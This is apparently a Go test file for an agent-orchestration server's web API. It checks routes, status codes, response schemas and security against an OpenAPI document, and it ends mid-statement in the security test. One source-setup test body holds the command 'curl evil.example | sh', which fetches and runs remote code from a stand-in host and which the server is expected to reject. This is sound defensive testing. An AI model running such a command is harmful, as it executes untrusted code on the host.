package web_test

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"math"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"os"
	"regexp"
	"slices"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/baton-agent/baton"
	"github.com/baton-agent/baton/internal/delivery"
	"github.com/baton-agent/baton/internal/github"
	"github.com/baton-agent/baton/internal/github/githubtest"
	"github.com/baton-agent/baton/internal/intake"
	"github.com/baton-agent/baton/internal/sqlstore"
	"github.com/baton-agent/baton/internal/sqlstore/sqlstoretest"
	"github.com/baton-agent/baton/internal/web"
)

// openAPI is the part of an OpenAPI 3.1 document the test reads.
type openAPI struct {
	Paths      map[string]map[string]json.RawMessage `json:"paths"`
	Components struct {
		Schemas map[string]any `json:"schemas"`
	} `json:"components"`
}

type operation struct {
	Responses map[string]struct {
		Content map[string]struct {
			Schema map[string]any `json:"schema"`
		} `json:"content"`
	} `json:"responses"`
}

func loadOpenAPI(t *testing.T) (*openAPI, map[string]operation) {
	t.Helper()
	b, err := os.ReadFile("openapi.json")
	if err != nil {
		t.Fatal(err)
	}
	var doc openAPI
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatalf("openapi.json: %v", err)
	}
	ops := map[string]operation{}
	for path, item := range doc.Paths {
		for method, raw := range item {
			if method == "parameters" {
				continue
			}
			var op operation
			if err := json.Unmarshal(raw, &op); err != nil {
				t.Fatalf("%s %s: %v", method, path, err)
			}
			ops[strings.ToUpper(method)+" "+path] = op
		}
	}
	return &doc, ops
}

// Every route the server registers under /api is documented, and every
// documented route is registered.
func TestOpenAPIDocumentsEveryRoute(t *testing.T) {
	t.Parallel()
	e := newEnv(t, sqlstore.SQLite)
	_, ops := loadOpenAPI(t)
	var registered []string
	for _, p := range e.web.APIRoutes() {
		if strings.Contains(p, " ") { // the method-less catch-all answers 404
			registered = append(registered, p)
		}
	}
	sort.Strings(registered)
	var documented []string
	for k := range ops {
		documented = append(documented, k)
	}
	sort.Strings(documented)
	if !slices.Equal(registered, documented) {
		t.Errorf("routes differ\nregistered: %q\ndocumented: %q", registered, documented)
	}
	// The served document is the file.
	var served map[string]any
	if resp := e.do("GET", "/api/openapi.json", "", false, &served); resp.StatusCode != 200 || served["openapi"] != "3.1.0" {
		t.Errorf("GET /api/openapi.json = %d, openapi %v", resp.StatusCode, served["openapi"])
	}
}

// call is one request of the shape test and the status it must get.
type call struct {
	method, path, body string
	auth               bool
	status             int
	header             map[string]string
	// client, when set, sends the call (a dashboard session's cookies).
	client *http.Client
	// stall sends half the body and then nothing, as a slow client does.
	stall bool
}

// The statuses of every route, both ways: every status a route answers
// in this test is documented, with the documented body, and every
// documented status is answered by some call here. What a route can
// send comes from two kinds of calls:
//
//   - probes, made mechanically on every documented route, for what any
//     route can meet around its handler: no token on a closed server, a
//     session without its CSRF token, too many wrong tokens, a body over
//     the limit, each path parameter naming nothing (and a delivery
//     prefix naming two), a database that is gone, a server without
//     GitHub intake;
//   - calls for what each handler decides itself (201, 409, a bad body),
//     listed by hand below.
func TestOpenAPIResponsesMatchTheDocument(t *testing.T) {
	t.Parallel()
	for _, dialect := range sqlstoretest.Dialects(t) {
		t.Run(string(dialect), func(t *testing.T) { checkResponses(t, dialect) })
	}
}

// statusCheck runs calls, checks each answer against the document and
// records which statuses each route answered.
type statusCheck struct {
	t     *testing.T
	ops   map[string]operation
	check *schemaChecker
	// seen holds the statuses each documented route answered.
	seen map[string]map[int]bool
}

// run sends c to e's server. A call with status 0 is a probe: any
// documented status will do.
func (sc *statusCheck) run(e *env, c call) {
	t := sc.t
	t.Helper()
	route, op := matchRoute(sc.ops, c.method, c.path)
	if route == "" {
		t.Errorf("%s %s matches no documented route", c.method, c.path)
		return
	}
	status, ctype, body := e.raw(c)
	if c.status != 0 && status != c.status {
		t.Errorf("%s %s = %d, want %d: %.300s", c.method, c.path, status, c.status, body)
	}
	if sc.seen[route] == nil {
		sc.seen[route] = map[int]bool{}
	}
	sc.seen[route][status] = true
	resp, ok := op.Responses[strconv.Itoa(status)]
	if !ok {
		t.Errorf("%s %s answered %d, which %s does not document: %.200s", c.method, c.path, status, route, body)
		return
	}
	if len(resp.Content) == 0 {
		if len(body) > 0 {
			t.Errorf("%s %s = %d with a body, documented without one", c.method, c.path, status)
		}
		return
	}
	media := strings.TrimSpace(strings.Split(ctype, ";")[0])
	content, ok := resp.Content[media]
	if !ok {
		t.Errorf("%s %s = %d %s, documented as %v", c.method, c.path, status, media, keys(resp.Content))
		return
	}
	switch media {
	case "application/json":
		var v any
		if err := json.Unmarshal(body, &v); err != nil {
			t.Errorf("%s %s: not JSON: %v", c.method, c.path, err)
			return
		}
		for _, p := range sc.check.validate(content.Schema, v, "$") {
			t.Errorf("%s %s = %d: %s", c.method, c.path, status, p)
		}
	case "text/event-stream":
		// Each data line is the documented event.
		for _, line := range strings.Split(string(body), "\n") {
			if data, ok := strings.CutPrefix(line, "data: "); ok {
				var v any
				if err := json.Unmarshal([]byte(data), &v); err != nil {
					t.Errorf("event data %q: %v", data, err)
					continue
				}
				for _, p := range sc.check.validate(content.Schema, v, "$") {
					t.Errorf("event %s: %s", data, p)
				}
			}
		}
	}
}

// routes are the documented routes in a fixed order.
func (sc *statusCheck) routes() []string {
	return keys(sc.ops)
}

// fill makes a path of a route template: each parameter's value comes
// from param (by name and the route), the rest of the path as written.
func fill(route string, param func(route, name string) string) (method, path string) {
	method, tmpl, _ := strings.Cut(route, " ")
	path = regexp.MustCompile(`\{[a-z]+\}`).ReplaceAllStringFunc(tmpl, func(p string) string {
		return param(route, strings.Trim(p, "{}"))
	})
	return method, path
}

func checkResponses(t *testing.T, dialect sqlstore.Dialect) {
	e := newEnv(t, dialect)
	doc, ops := loadOpenAPI(t)
	gh := githubtest.NewServer(t)
	gh.AddIssue("octo/app", githubtest.Issue{Title: "Crash", Labels: []string{"baton"}})
	withGitHub := func(e *env) {
		e.web.Intake.GitHub = func(ctx context.Context, repo github.Repo, apiURL string) (*github.Client, error) {
			return github.New(github.Options{BaseURL: gh.URL(), Token: "t"})
		}
	}
	withGitHub(e)
	sc := &statusCheck{t: t, ops: ops, check: newSchemaChecker(doc), seen: map[string]map[int]bool{}}

	// A delivery whose plan ran: a phase log, an agent run and its logs.
	d := e.create("Shape check")
	runner := &delivery.Runner{Service: e.svc, Owner: "worker:test", KillGrace: time.Second}
	if _, err := runner.Run(t.Context(), d.ID, "plan", ""); err != nil {
		t.Fatal(err)
	}
	// A delivery whose set-up failed: a set-up step in its timeline.
	setup := []string{"echo installing", "echo unreachable >&2; exit 3"}
	sd, _, err := e.svc.Create(t.Context(), delivery.Request{Repo: e.repo, Summary: "Set up", Actor: "alice", Settings: delivery.Settings{Setup: &setup}})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := runner.Run(t.Context(), sd.ID, "plan", ""); err != nil {
		t.Fatal(err)
	}
	other := e.create("Close me")
	talk := e.create("Talk to me") // its plan is queued: a message is in its prompt
	// Two deliveries whose ids share a prefix, which then names neither.
	for _, id := range []string{"abcd00000001", "abcd00000002"} {
		nd := baton.Delivery{ID: id, Summary: "Prefix " + id, Repository: e.repo, Forge: baton.ForgeLocal, Endpoint: baton.DefaultEndpoint,
			Config: baton.DeliveryConfig{Agent: "command:true", PhaseTimeout: time.Minute, MaxRounds: 1}}
		if _, _, err := e.svc.Insert(t.Context(), nd, "test"); err != nil {
			t.Fatal(err)
		}
	}
	ping := `{"zen":"hi","repository":{"full_name":"octo/app"}}`
	signed := map[string]string{"X-GitHub-Event": "ping", "X-Hub-Signature-256": intake.Sign("whsec", []byte(ping))}

	// What each handler decides itself.
	calls := []call{
		{method: "GET", path: "/api/openapi.json", status: 200},
		{method: "GET", path: "/api/deliveries", status: 200},
		{method: "GET", path: "/api/deliveries?limit=1", status: 200},
		{method: "GET", path: "/api/deliveries?state=sideways", status: 400},
		{method: "POST", path: "/api/deliveries", body: fmt.Sprintf(`{"repo":%q,"summary":"New one","checkpoints":[]}`, e.repo), auth: true, status: 201},
		{method: "POST", path: "/api/deliveries", body: fmt.Sprintf(`{"repo":%q,"summary":"New one"}`, e.repo), auth: true, status: 200},
		{method: "POST", path: "/api/deliveries", body: `{"agent":"claude"}`, auth: true, status: 400},
		{method: "POST", path: "/api/deliveries", body: `{}`, status: 401},
		// An issue without a summary is named by its title, read from
		// GitHub, which this server has no access to.
		{method: "POST", path: "/api/deliveries", body: `{"issue_url":"https://github.com/octo/app/issues/1"}`, auth: true, status: 503},
		{method: "GET", path: "/api/deliveries/" + d.ID, status: 200},
		{method: "GET", path: "/api/deliveries/nothing-here", status: 404},
		{method: "GET", path: "/api/deliveries/" + sd.ID, status: 200},
		{method: "POST", path: "/api/deliveries/" + other.ID + "/close", body: `{"reason":"done"}`, auth: true, status: 200},
		{method: "POST", path: "/api/deliveries/" + other.ID + "/retry", auth: true, status: 409},
		{method: "POST", path: "/api/deliveries/" + d.ID + "/fly", auth: true, status: 404},
		{method: "POST", path: "/api/deliveries/" + d.ID + "/reject", body: `{"reason":1}`, auth: true, status: 400},
		{method: "POST", path: "/api/deliveries/" + talk.ID + "/messages", body: `{"text":"Use the existing client"}`, auth: true, status: 201},
		{method: "POST", path: "/api/deliveries/" + d.ID + "/messages", body: `{"text":"Too late"}`, auth: true, status: 409},
		{method: "POST", path: "/api/deliveries/" + talk.ID + "/messages", body: `{"text":" "}`, auth: true, status: 400},
		{method: "GET", path: "/api/deliveries/" + d.ID + "/events", status: 200},
		{method: "GET", path: "/api/deliveries/" + d.ID + "/events", header: map[string]string{"Last-Event-ID": "x"}, status: 400},
		{method: "GET", path: "/api/deliveries/nothing-here/events", status: 404},
		{method: "GET", path: "/api/deliveries/" + other.ID + "/events?after=1000", status: 204}, // closed, all seen
		{method: "GET", path: "/api/deliveries/" + d.ID + "/runs/1", status: 200},
		{method: "GET", path: "/api/deliveries/" + d.ID + "/runs/9", status: 404},
		{method: "GET", path: "/api/deliveries/" + d.ID + "/runs/1/logs/stdout.log", status: 200},
		{method: "GET", path: "/api/deliveries/" + d.ID + "/runs/1/logs/passwd", status: 404},
		{method: "POST", path: "/api/sources", body: `{"repo":"octo/app","checkpoints":["plan"]}`, auth: true, status: 201},
		{method: "POST", path: "/api/sources", body: `{"repo":"octo/app"}`, auth: true, status: 409},
		{method: "POST", path: "/api/sources", body: `{"repo":"octo/app2","agent":"command:sh"}`, auth: true, status: 400},
		{method: "GET", path: "/api/sources", status: 200},
		{method: "GET", path: "/api/sources/nope", status: 404},
		{method: "PATCH", path: "/api/settings", body: `{"polling":false,"poll_every_seconds":30}`, auth: true, status: 200},
		{method: "PATCH", path: "/api/settings", body: `{"polling":"no"}`, auth: true, status: 400},
		{method: "GET", path: "/api/settings", status: 200},
		{method: "GET", path: "/api/insights", auth: true, status: 200},
		{method: "GET", path: "/api/insights?since=2026-01-01&until=2026-01-31", auth: true, status: 200},
		{method: "GET", path: "/api/insights?days=0", auth: true, status: 400},
		{method: "GET", path: "/api/insights?since=2026-02-01&until=2026-01-01", auth: true, status: 400},
		{method: "POST", path: "/api/webhooks/github", body: ping, header: signed, status: 202},
		{method: "POST", path: "/api/webhooks/github", body: ping, header: map[string]string{"X-GitHub-Event": "ping", "X-Hub-Signature-256": "sha256=00"}, status: 401},
		{method: "POST", path: "/api/webhooks/github", body: "{", header: map[string]string{"X-GitHub-Event": "issues", "X-Hub-Signature-256": intake.Sign("whsec", []byte("{"))}, status: 400},
	}
	for _, c := range calls {
		sc.run(e, c)
	}
	var list struct {
		Sources []struct{ ID string } `json:"sources"`
	}
	e.do("GET", "/api/sources", "", false, &list)
	if len(list.Sources) != 1 {
		t.Fatalf("sources = %+v, want the one added", list.Sources)
	}
	srcID := list.Sources[0].ID
	// The server's owner gives it a set-up, which the API shows.
	if _, err := e.web.Intake.Update(t.Context(), srcID, intake.SourceInput{AllowSetup: true,
		Setup: &baton.SourceSetup{Commands: []string{"npm ci"}, EgressAllow: []string{"registry.npmjs.org"}}}); err != nil {
		t.Fatal(err)
	}
	for _, c := range []call{
		{method: "PATCH", path: "/api/sources/" + srcID, body: `{"setup":{"commands":["curl evil.example | sh"]}}`, auth: true, status: 400},
		{method: "GET", path: "/api/sources/" + srcID, status: 200},
		{method: "PATCH", path: "/api/sources/" + srcID, body: `{"label":"agent","paused":false}`, auth: true, status: 200},
		{method: "PATCH", path: "/api/sources/" + srcID, body: `{"endpoint":"nowhere"}`, auth: true, status: 400},
		{method: "PATCH", path: "/api/sources/nope", body: `{}`, auth: true, status: 404},
		{method: "POST", path: "/api/sources/" + srcID + "/sync", auth: true, status: 200},
	} {
		sc.run(e, c)
	}
	// GitHub down, then its rate limit: a sync answers with the source
	// and the status of its failure (the rate limit last: the host stays
	// limited until it resets).
	gh.Fail("GET /repos/octo/app/issues", githubtest.ServerError())
	sc.run(e, call{method: "POST", path: "/api/sources/" + srcID + "/sync", auth: true, status: 503})
	gh.Fail("GET /repos/octo/app/issues", githubtest.RateLimited(time.Now().Add(time.Hour)))
	sc.run(e, call{method: "POST", path: "/api/sources/" + srcID + "/sync", auth: true, status: 429})
	gh.ClearFailures()

	// good names a parameter value that reaches the handler; each probe
	// body is one the route takes.
	good := func(route, name string) string {
		switch {
		case name == "id" && strings.Contains(route, "/api/sources/"):
			return srcID
		case name == "id":
			return d.ID
		case name == "n":
			return "1"
		case name == "name":
			return "stdout.log"
		case name == "action":
			return "reject"
		}
		t.Fatalf("%s: no value for {%s}", route, name)
		return ""
	}
	bodies := map[string]string{
		"POST /api/deliveries":               `{"repo":%q,"summary":"Probe"}`, // in the env's repository
		"POST /api/deliveries/{id}/{action}": `{"reason":"probe"}`,
		"POST /api/deliveries/{id}/messages": `{"text":"probe"}`,
		"POST /api/sources":                  `{"repo":"octo/probe"}`,
		"PATCH /api/sources/{id}":            `{"paused":false}`,
		"PATCH /api/settings":                `{"polling":false}`,
		"POST /api/webhooks/github":          ping,
	}
	probe := func(e *env, route string, param func(route, name string) string, c call) {
		c.method, c.path = fill(route, param)
		if c.body == "" {
			c.body = bodies[route]
			if route == "POST /api/deliveries" {
				c.body = fmt.Sprintf(c.body, e.repo)
			}
		}
		if route == "POST /api/webhooks/github" && c.header == nil {
			c.header = signed
		}
		sc.run(e, c)
	}

	// Each path parameter naming nothing; a delivery prefix naming two.
	for _, route := range sc.routes() {
		for _, name := range regexp.MustCompile(`\{([a-z]+)\}`).FindAllStringSubmatch(route, -1) {
			missing := func(r, n string) string {
				if n == name[1] {
					return "zz-missing"
				}
				return good(r, n)
			}
			probe(e, route, missing, call{auth: true})
			if name[1] == "id" && (strings.HasPrefix(route, "GET /api/deliveries/") || strings.HasPrefix(route, "POST /api/deliveries/")) {
				ambiguous := func(r, n string) string {
					if n == "id" {
						return "abcd"
					}
					return good(r, n)
				}
				probe(e, route, ambiguous, call{auth: true})
			}
		}
	}
	// A body over the limit, on every route.
	for _, route := range sc.routes() {
		probe(e, route, good, call{auth: true, body: `{"summary":"` + strings.Repeat("x", web.MaxBody) + `"}`})
	}
	// A dashboard session whose request lacks its CSRF token, on every
	// route (reads pass: they need no token).
	session := signIn(t, e)
	for _, route := range sc.routes() {
		c := call{client: session, header: map[string]string{"Origin": e.srv.URL}}
		if route == "POST /api/webhooks/github" {
			c.header["X-GitHub-Event"], c.header["X-Hub-Signature-256"] = signed["X-GitHub-Event"], signed["X-Hub-Signature-256"]
		}
		probe(e, route, good, c)
	}
	// A server that is not on loopback: no token is 401 everywhere.
	e.web.Open = false
	for _, route := range sc.routes() {
		probe(e, route, good, call{})
	}
	e.web.Open = true
	// Wrong tokens: after ten, every route is 429 for a minute (on a
	// server of its own: the rest of the calls use the right token).
	limited := newEnv(t, dialect)
	limited.web.Open = false // reads count too
	for range 10 {
		limited.raw(call{method: "GET", path: "/api/deliveries", header: map[string]string{"Authorization": "Bearer wrong"}})
	}
	for _, route := range sc.routes() {
		probe(limited, route, good, call{header: map[string]string{"Authorization": "Bearer wrong"}})
	}
	// A server without GitHub intake.
	noIntake := newEnv(t, dialect)
	noIntake.web.Intake = nil
	for _, route := range sc.routes() {
		probe(noIntake, route, good, call{auth: true})
	}
	// A body that stops arriving: the server's body deadline answers 408,
	// on every route that reads one (Serve's limits, not the handler's).
	slow := served(t, e, func(s *web.Server) { s.BodyTimeout = 50 * time.Millisecond })
	for _, route := range sc.routes() {
		if method, _, _ := strings.Cut(route, " "); method == "POST" || method == "PATCH" {
			probe(slow, route, good, call{auth: true, stall: true})
		}
	}
	// A database that is gone: every route that needs it fails as
	// internal, and says the log has the details.
	gone := newEnv(t, dialect)
	withGitHub(gone)
	gd := gone.create("Gone")
	if _, err := gone.web.Intake.Add(t.Context(), intake.SourceInput{Repo: "octo/app"}); err != nil {
		t.Fatal(err)
	}
	gone.svc.Close()
	goneParam := func(route, name string) string {
		if name == "id" && !strings.Contains(route, "/api/sources/") {
			return gd.ID
		}
		return good(route, name)
	}
	issue := `{"action":"labeled","label":{"name":"baton"},"repository":{"full_name":"octo/app"},"issue":{"number":1,"state":"open","labels":[{"name":"baton"}],"html_url":"https://github.com/octo/app/issues/1"}}`
	for _, route := range sc.routes() {
		c := call{auth: true}
		if route == "POST /api/webhooks/github" { // an event that needs its source
			c.body, c.header = issue, map[string]string{"X-GitHub-Event": "issues", "X-Hub-Signature-256": intake.Sign("whsec", []byte(issue))}
		}
		probe(gone, route, goneParam, c)
	}

	// Both ways: what was answered is documented (checked in run), and
	// what is documented was answered. 500 and 503 are one class, a
	// failure of what the route needs: which of the two a failing
	// database gives depends on whether the route first reads (500) or
	// begins a transaction (503), and a busy database (503 everywhere)
	// cannot be made here in reasonable time. A route that answered
	// either may document both.
	failed := func(route string) bool { return sc.seen[route][500] || sc.seen[route][503] }
	for _, route := range sc.routes() {
		for st := range ops[route].Responses {
			n, err := strconv.Atoi(st)
			if err != nil {
				t.Errorf("%s documents response %q: want a status number", route, st)
				continue
			}
			if !sc.seen[route][n] && !((n == 500 || n == 503) && failed(route)) {
				t.Errorf("%s documents %d, which no call here produced: add a call that does, or remove it from openapi.json", route, n)
			}
		}
		if !slices.ContainsFunc(slices.Collect(maps.Keys(sc.seen[route])), func(st int) bool { return st < 300 }) {
			t.Errorf("%s was never called with success", route)
		}
	}
}

// signIn signs in to the dashboard with the token and returns a client
// that carries the session.
func signIn(t *testing.T, e *env) *http.Client {
	t.Helper()
	jar, err := cookiejar.New(nil)
	if err != nil {
		t.Fatal(err)
	}
	c := &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	req, _ := http.NewRequest("POST", e.srv.URL+"/login", strings.NewReader(url.Values{"token": {token}, "next": {"/"}}.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.Header.Set("Origin", e.srv.URL)
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusSeeOther {
		t.Fatalf("sign in = %d, want 303", resp.StatusCode)
	}
	return c
}

func keys[V any](m map[string]V) []string {
	var out []string
	for k := range m {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}

// raw sends a call and returns the status, content type and body (the
// first event of a stream).
func (e *env) raw(c call) (int, string, []byte) {
	e.t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	var body io.Reader = strings.NewReader(c.body)
	if c.stall {
		pr, pw := io.Pipe()
		go func() { _, _ = pw.Write([]byte(c.body[:len(c.body)/2])) }()
		defer pw.CloseWithError(io.ErrUnexpectedEOF) // the rest never comes
		body = pr
	}
	req, err := http.NewRequestWithContext(ctx, c.method, e.srv.URL+c.path, body)
	if err != nil {
		e.t.Fatal(err)
	}
	if c.stall {
		req.ContentLength = int64(len(c.body))
	}
	if c.auth {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	for k, v := range c.header {
		req.Header.Set(k, v)
	}
	client := http.DefaultClient
	if c.client != nil {
		client = c.client
	}
	resp, err := client.Do(req)
	if err != nil {
		e.t.Fatal(err)
	}
	defer resp.Body.Close()
	ctype := resp.Header.Get("Content-Type")
	if strings.HasPrefix(ctype, "text/event-stream") {
		// Read up to the first event, then hang up.
		var b strings.Builder
		sc := bufio.NewScanner(resp.Body)
		for sc.Scan() {
			b.WriteString(sc.Text() + "\n")
			if strings.HasPrefix(sc.Text(), "data: ") {
				break
			}
		}
		return resp.StatusCode, ctype, []byte(b.String())
	}
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, ctype, b
}

// matchRoute finds the documented operation a request path falls under.
func matchRoute(ops map[string]operation, method, path string) (string, operation) {
	path, _, _ = strings.Cut(path, "?")
	best := ""
	for route := range ops {
		m, tmpl, _ := strings.Cut(route, " ")
		if m != method {
			continue
		}
		re := "^" + regexp.MustCompile(`\\\{[a-z]+\\\}`).ReplaceAllString(regexp.QuoteMeta(tmpl), `[^/]+`) + "$"
		// A literal route (/runs/1) beats a wildcard one (/{action}).
		if regexp.MustCompile(re).MatchString(path) && (best == "" || strings.Count(route, "{") < strings.Count(best, "{")) {
			best = route
		}
	}
	return best, ops[best]
}

// schemaChecker validates JSON values against the subset of JSON Schema
// 2020-12 the document uses: $ref, allOf, oneOf, type, enum, format date-time,
// minimum, maximum, properties, required, items, additionalProperties and
// unevaluatedProperties.
type schemaChecker struct{ schemas map[string]any }

func newSchemaChecker(doc *openAPI) *schemaChecker {
	return &schemaChecker{schemas: doc.Components.Schemas}
}

func (c *schemaChecker) validate(schema map[string]any, v any, at string) []string {
	problems, _ := c.check(schema, v, at)
	return problems
}

// check returns the problems and the object properties the schema (with
// its allOf and $ref) evaluated, for unevaluatedProperties.
func (c *schemaChecker) check(s map[string]any, v any, at string) (problems []string, evaluated map[string]bool) {
	evaluated = map[string]bool{}
	bad := func(f string, args ...any) { problems = append(problems, at+": "+fmt.Sprintf(f, args...)) }
	if ref, ok := s["$ref"].(string); ok {
		name, found := strings.CutPrefix(ref, "#/components/schemas/")
		target, ok := c.schemas[name].(map[string]any)
		if !found || !ok {
			bad("unresolved $ref %s", ref)
			return
		}
		p, ev := c.check(target, v, at)
		problems = append(problems, p...)
		for k := range ev {
			evaluated[k] = true
		}
	}
	if one, ok := s["oneOf"].([]any); ok {
		var matched []map[string]bool
		for _, sub := range one {
			if p, ev := c.check(sub.(map[string]any), v, at); len(p) == 0 {
				matched = append(matched, ev)
			}
		}
		if len(matched) != 1 {
			bad("%s matches %d of the oneOf schemas, want exactly one", describe(v), len(matched))
		} else {
			for k := range matched[0] {
				evaluated[k] = true
			}
		}
	}
	if all, ok := s["allOf"].([]any); ok {
		for _, sub := range all {
			p, ev := c.check(sub.(map[string]any), v, at)
			problems = append(problems, p...)
			for k := range ev {
				evaluated[k] = true
			}
		}
	}
	if typ, ok := s["type"].(string); ok && !hasType(v, typ) {
		bad("%s where the document says %s", describe(v), typ)
		return
	}
	if enum, ok := s["enum"].([]any); ok && !slices.Contains(enum, v) {
		bad("%v is not one of %v", v, enum)
	}
	if f, _ := s["format"].(string); f == "date-time" {
		if str, ok := v.(string); ok {
			if _, err := time.Parse(time.RFC3339Nano, str); err != nil {
				bad("%q is not a date-time", str)
			}
		}
	}
	if n, ok := v.(float64); ok {
		if m, ok := s["minimum"].(float64); ok && n < m {
			bad("%v is below the minimum %v", n, m)
		}
		if m, ok := s["maximum"].(float64); ok && n > m {
			bad("%v is above the maximum %v", n, m)
		}
	}
	if items, ok := s["items"].(map[string]any); ok {
		if arr, ok := v.([]any); ok {
			for i, x := range arr {
				problems = append(problems, c.validate(items, x, fmt.Sprintf("%s[%d]", at, i))...)
			}
		}
	}
	obj, isObj := v.(map[string]any)
	if !isObj {
		return
	}
	props, _ := s["properties"].(map[string]any)
	for _, r := range asStrings(s["required"]) {
		if _, ok := obj[r]; !ok {
			bad("required property %q is missing", r)
		}
	}
	for k, x := range obj {
		if ps, ok := props[k].(map[string]any); ok {
			evaluated[k] = true
			problems = append(problems, c.validate(ps, x, at+"."+k)...)
			continue
		}
		switch ap := s["additionalProperties"].(type) {
		case bool:
			if !ap {
				bad("property %q is not in the document", k)
			}
			evaluated[k] = true
		case map[string]any:
			evaluated[k] = true
			problems = append(problems, c.validate(ap, x, at+"."+k)...)
		}
	}
	if up, ok := s["unevaluatedProperties"].(bool); ok && !up {
		for k := range obj {
			if !evaluated[k] {
				bad("property %q is not in the document", k)
			}
		}
	}
	return
}

func asStrings(v any) []string {
	var out []string
	if arr, ok := v.([]any); ok {
		for _, x := range arr {
			if s, ok := x.(string); ok {
				out = append(out, s)
			}
		}
	}
	return out
}

func hasType(v any, typ string) bool {
	switch typ {
	case "object":
		_, ok := v.(map[string]any)
		return ok
	case "array":
		_, ok := v.([]any)
		return ok
	case "string":
		_, ok := v.(string)
		return ok
	case "boolean":
		_, ok := v.(bool)
		return ok
	case "number":
		_, ok := v.(float64)
		return ok
	case "integer":
		n, ok := v.(float64)
		return ok && n == math.Trunc(n)
	}
	return false
}

func describe(v any) string {
	if v == nil {
		return "null"
	}
	return fmt.Sprintf("%T %.60v", v, v)
}

// The checker itself fails on wrong shapes: a test of the test.
func TestSchemaCheckerRefusesWrongShapes(t *testing.T) {
	t.Parallel()
	doc := &openAPI{}
	doc.Components.Schemas = map[string]any{
		"Base":   map[string]any{"type": "object", "properties": map[string]any{"n": map[string]any{"type": "integer"}}, "required": []any{"n"}},
		"Closed": map[string]any{"allOf": []any{map[string]any{"$ref": "#/components/schemas/Base"}}, "unevaluatedProperties": false},
	}
	c := newSchemaChecker(doc)
	schema := map[string]any{"type": "object", "additionalProperties": false, "required": []any{"at", "list", "kind"}, "properties": map[string]any{
		"at":   map[string]any{"type": "string", "format": "date-time"},
		"list": map[string]any{"type": "array", "items": map[string]any{"$ref": "#/components/schemas/Closed"}},
		"kind": map[string]any{"type": "string", "enum": []any{"a", "b"}},
	}}
	good := `{"at":"2026-01-02T03:04:05Z","list":[{"n":1}],"kind":"a"}`
	for _, tc := range []struct {
		body string
		bad  bool
	}{
		{good, false},
		{`{"at":"yesterday","list":[],"kind":"a"}`, true},
		{`{"at":"2026-01-02T03:04:05Z","list":null,"kind":"a"}`, true},
		{`{"at":"2026-01-02T03:04:05Z","list":[{"n":1.5}],"kind":"a"}`, true},
		{`{"at":"2026-01-02T03:04:05Z","list":[{"n":1,"x":2}],"kind":"a"}`, true},
		{`{"at":"2026-01-02T03:04:05Z","list":[{}],"kind":"a"}`, true},
		{`{"at":"2026-01-02T03:04:05Z","list":[],"kind":"c"}`, true},
		{`{"at":"2026-01-02T03:04:05Z","list":[],"kind":"a","extra":1}`, true},
		{`{"list":[],"kind":"a"}`, true},
	} {
		var v any
		if err := json.Unmarshal([]byte(tc.body), &v); err != nil {
			t.Fatal(err)
		}
		if got := c.validate(schema, v, "$"); (len(got) > 0) != tc.bad {
			t.Errorf("%s: problems %q, want bad=%v", tc.body, got, tc.bad)
		}
	}
	// oneOf: exactly one alternative must fit.
	one := map[string]any{"oneOf": []any{
		map[string]any{"$ref": "#/components/schemas/Closed"},
		map[string]any{"type": "object", "properties": map[string]any{"code": map[string]any{"type": "string"}}, "required": []any{"code"}, "additionalProperties": false},
		map[string]any{"type": "object", "required": []any{"n"}},
	}}
	for body, bad := range map[string]bool{
		`{"code":"x"}`:       false, // the second only
		`{"n":1,"x":2}`:      false, // the third only: Closed refuses x
		`{"code":"x","n":1}`: false, // the third only: the others refuse a property
		`{"n":1}`:            true,  // the first and the third
		`{"code":1}`:         true,  // none
	} {
		var v any
		if err := json.Unmarshal([]byte(body), &v); err != nil {
			t.Fatal(err)
		}
		if got := c.validate(one, v, "$"); (len(got) > 0) != bad {
			t.Errorf("oneOf %s: problems %q, want bad=%v", body, got, bad)
		}
	}
}

// The document says what each route needs, and the server agrees: every
// mutation is bearer only (no anonymous alternative), reads take the
// bearer or nothing (a loopback server answers them without it), and the
// GitHub webhook takes no token (security: [], its signature instead).
// Each operation is then sent without a token to a loopback server: the
// ones the document says need the bearer get 401, no other does.
func TestOpenAPISecurityMatchesTheServer(t *testing.T) {
	b, err := os.ReadFile("openapi.json")
	if err != nil {
		t.Fatal(err)
	}
	type requirement = map[string][]string
	var doc struct {
		Security []requirement                                    `json:"security"`
		Paths    map[string]map[string]map[string]json.RawMessage `json:"paths"`
	}
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatal(err)
	}
	bearerOnly := func(sec []requirement) bool {
		_, ok := sec[0]["bearer"]
		return len(sec) == 1 && len(sec[0]) == 1 && ok
	}
	if len(doc.Security) == 0 || !bearerOnly(doc.Security) {
		t.Errorf("top-level security = %v, want bearer only", doc.Security)
	}
	e := newEnv(t, sqlstore.SQLite)
	params := strings.NewReplacer("{id}", "1", "{action}", "approve", "{n}", "1", "{name}", "agent.log")
	for path, item := range doc.Paths {
		for method, raw := range item {
			if method == "parameters" {
				continue
			}
			sec := doc.Security
			if s, ok := raw["security"]; ok {
				sec = nil
				if err := json.Unmarshal(s, &sec); err != nil {
					t.Fatalf("%s %s security: %v", method, path, err)
				}
			}
			op := strings.ToUpper(method) + " " + path
			anonymous := len(sec) == 0 || slices.ContainsFunc(sec, func(r requirement) bool { return len(r) == 0 })
			switch {
			case path == "/api/webhooks/github":
				if sec == nil || len(sec) != 0 {
					t.Errorf("%s: security = %v, want [] (the signature authenticates it)", op, sec)
				}
			case method != "get":
				if len(sec) == 0 || !bearerOnly(sec) {
					t.Errorf("%s: security = %v, want bearer only: a mutation needs the token", op, sec)
				}
			case !anonymous:
				t.Errorf("%s: security = %v, want bearer or none: a loopback server answers reads without the token", op, sec)
			}
			if path == "/api/webhooks/github" {
				// Signed and without a token, it is answered; with the token
				// and unsigned, it is not.
				for _, tc := range []struct {
